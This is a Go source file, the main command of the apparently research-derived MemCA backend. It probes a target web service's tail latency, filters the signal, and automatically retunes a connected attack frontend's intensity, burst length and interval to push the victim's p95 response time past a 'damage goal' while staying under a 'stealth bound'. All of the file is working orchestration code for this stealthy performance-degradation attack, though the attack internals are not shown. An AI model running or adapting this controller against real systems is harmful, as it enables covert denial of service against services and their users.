// Command memca-be runs the MemCA backend: it probes the target web
// system's front door, smooths the tail-latency signal through a Kalman
// filter, and retunes the connected frontend's attack parameters toward
// the damage goal under the stealthiness bound.
//
// Usage:
//
//	memca-be -fe 127.0.0.1:7070 -target http://victim.example/ -goal-p95 1s
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"memca/internal/attack"
	"memca/internal/control"
	"memca/internal/memcafw"
	"memca/internal/telemetry"
	"memca/internal/telemetry/live"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "memca-be:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		feAddr    = flag.String("fe", "127.0.0.1:7070", "frontend TCP address")
		target    = flag.String("target", "", "target URL to probe (required)")
		probeTmo  = flag.Duration("probe-timeout", 3*time.Second, "probe HTTP timeout")
		probeEach = flag.Duration("probe-period", time.Second, "probe period")
		goalP95   = flag.Duration("goal-p95", time.Second, "damage goal: p95 response time to exceed")
		maxMB     = flag.Duration("max-millibottleneck", time.Second, "stealth bound on millibottleneck length")
		decide    = flag.Duration("decide-every", 5*time.Second, "commander decision period")
		duration  = flag.Duration("duration", 0, "stop after this long (0 = run until interrupted)")
		traceOut  = flag.String("trace-out", "", "write a Chrome trace of the probes on exit (empty disables)")
		otlpOut   = flag.String("otlp-out", "", "write an OTLP/JSON export of the probes on exit (empty disables)")
	)
	flag.Parse()
	if *target == "" {
		return fmt.Errorf("-target is required")
	}

	// With a trace target, probes carry trace context: each probe is a
	// client-side trace (an instrumented victim's tiers see the header and
	// record their own spans server-side).
	var col *live.Collector
	if *traceOut != "" || *otlpOut != "" {
		var err error
		col, err = live.New(live.Config{Events: 1 << 16})
		if err != nil {
			return err
		}
	}
	probe := memcafw.HTTPProbe(*target, *probeTmo, col)

	loop := control.DefaultConfig()
	loop.Goal.TargetRT, loop.Goal.MaxMillibottleneck = *goalP95, *maxMB
	loop.ProbePeriod, loop.Window, loop.DecisionEvery = *probeEach, 30, *decide
	be, err := memcafw.NewBackend(memcafw.BackendConfig{
		Config: loop,
		FEAddr: *feAddr,
		Probe:  probe,
		Initial: attack.Params{
			Intensity:   0.5,
			BurstLength: 100 * time.Millisecond,
			Interval:    2 * time.Second,
		},
		Logger: log.New(os.Stderr, "memca-be ", log.LstdFlags),
	})
	if err != nil {
		return err
	}
	log.Printf("memca-be connected to FE %s (program %s), probing %s",
		be.FEInfo().FEID, be.FEInfo().Program, *target)

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if *duration > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *duration)
		defer cancel()
	}
	runErr := be.Run(ctx)
	if col != nil {
		rep := col.Report()
		log.Printf("memca-be traced %d probes (%d open, %d events dropped)",
			len(rep.Attributions), rep.Open, rep.DroppedEvents)
		if *traceOut != "" {
			if err := telemetry.WriteChromeTrace(*traceOut, rep.TierNames, rep.Events); err != nil {
				return err
			}
		}
		if *otlpOut != "" {
			spec := telemetry.OTLPSpec{ServicePrefix: "memca-be", EpochNanos: col.Epoch().UnixNano()}
			if err := telemetry.WriteOTLP(*otlpOut, spec, rep.TierNames, rep.Events); err != nil {
				return err
			}
		}
	}
	return runErr
}
